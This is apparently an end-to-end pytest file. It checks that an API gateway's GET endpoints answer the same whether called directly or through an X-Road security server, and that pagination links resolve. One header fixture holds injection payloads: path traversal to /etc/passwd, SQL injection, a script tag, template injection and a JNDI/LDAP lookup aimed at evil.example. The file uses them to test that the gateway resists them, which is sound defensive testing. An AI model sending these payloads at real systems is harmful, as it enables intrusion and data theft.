"""Behind X-Road: another Host, headers of its own, all unknown ones stripped. Every read answers the same."""

import re
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest

from deploy.gateway.settings import SERVICES
from services.registry.access.roles import ROLES, scopes_of
from shared.http.openapi import operations
from shared.http.openapi import scopes_of as scopes_of_operation
from tests.end_to_end.stage import PATIENCE_SECONDS, Gateway

PLAIN = {"User-Agent": "a browser", "X-Device-Id": "d1", "X-Something": "else"}
SERVERS = {
    "as it is": {
        "Host": "10.20.30.40:5500",
        "X-Road-Client": "central-server/GOV/70000011/state-services-portal",
        "X-Road-Id": "1f2a",
        "X-Road-Request-Id": "b2b8c0d6-1f6c-4f5e-9b1a-0d6a7c1c0d11",
        "X-Road-UserId": "KG12345678901234",
        "X-Road-Issue": "12/34",
    },
    "with anything in it": {
        "Host": "evil.example",
        "X-Road-Client": "../../../etc/passwd",
        "X-Road-Id": "' OR 1=1 --",
        "X-Road-Request-Id": "x" * 4000,
        "X-Road-UserId": "<script>alert(1)</script>",
        "X-Road-Represented-Party": "{{7*7}} ${jndi:ldap://evil.example/a}",
        "X-Road-Security-Server": "central-server/GOV/1/\u00e9".encode("latin-1"),
    },
}
"""What a security server makes of a request: host rewritten, connection headers dropped, its own ones added."""
KEPT = ("content-type", "etag", "link", "location", "cache-control", "content-language")
VOLATILE = re.compile(r'"(trace_id|instance|request_id|next)":"[^"]*",?')
FOREIGN = re.compile(r"10[.]20[.]30[.]40|evil[.]example")
OUTSIDE = {"/metrics"}


@dataclass(frozen=True)
class Read:
    url: str
    role: str | None

    def ask(self, api: Gateway, headers: dict[str, Any], **query: str) -> httpx.Response:
        """As anybody who reads everything does: again a moment later where it was too much at a time."""
        deadline = time.monotonic() + PATIENCE_SECONDS
        headers = {**api.headers(self.role), **headers}
        while True:
            answer = api.http.get(self.url, headers=headers, params=query or None)
            if answer.status_code != 429 or time.monotonic() > deadline:
                return answer
            time.sleep(0.1)


def reads(api: Gateway, service: str, known: dict[str, Any]) -> Iterator[Read]:
    """Every GET, with things that are there in its path, as a role that may."""
    for path, method, operation in operations(api.call("GET", f"{service}/openapi.json").json()):
        if method != "get" or path in OUTSIDE:
            continue
        names = re.findall(r"{([^}]*)}", path)
        missing = [name for name in names if name not in known]
        if missing == ["job_id"]:
            continue  # nobody's long work is there to be read
        assert not missing, f"{path}: nothing known for {missing}"
        scopes = scopes_of_operation(operation)
        role = None if scopes is None else next(r for r in ROLES if set(scopes) <= set(scopes_of((r,))))
        yield Read(f"/api/{service}" + path.format(**known), role)


@pytest.mark.parametrize("service", SERVICES)
def test_every_read_answers_the_same_behind_a_security_server(
    service: str, api: Gateway, known: dict[str, Any]
) -> None:
    asked = list(reads(api, service, known))
    assert len(asked) > 5
    found = 0
    for read in asked:
        plain = read.ask(api, PLAIN)
        assert plain.status_code < 500, read
        found += plain.status_code == 200
        for name, headers in SERVERS.items():
            behind = read.ask(api, headers)
            assert behind.status_code == plain.status_code, (read, name)
            assert {k: behind.headers.get(k) for k in KEPT} == {k: plain.headers.get(k) for k in KEPT}, read
            assert VOLATILE.sub("", behind.text) == VOLATILE.sub("", plain.text), (read, name)
            assert not FOREIGN.search(VOLATILE.sub("", behind.text)), f"{read}: believes a host"
            assert api.url not in behind.text, f"{read}: names its own address"
            assert not [header for header in behind.headers if header.startswith("x-road")], read
    assert found > len(asked) / 2, "most of what was asked is really there"


def test_pages_are_turned_by_links_relative_to_what_the_caller_asked(
    api: Gateway, known: dict[str, Any]
) -> None:
    """The consumer resolves them against the address of its own security server."""
    turned = 0
    for read in (read for service in SERVICES for read in reads(api, service, known)):
        first = read.ask(api, SERVERS["as it is"], limit="1")
        if first.status_code != 200 or "link" not in first.headers:
            continue
        [target] = re.findall(r'^<([^>]+)>; rel="next"$', first.headers["link"])
        assert "//" not in target
        asked = "http://security-server/r1/central-server/GOV/1/ashar/code" + read.url
        url = str(httpx.URL(asked).join(target)).partition("/code")[2]
        second = Read(url, read.role).ask(api, SERVERS["as it is"])
        assert second.status_code == 200, (read, target)
        assert second.text != first.text
        turned += 1
    assert turned > 10
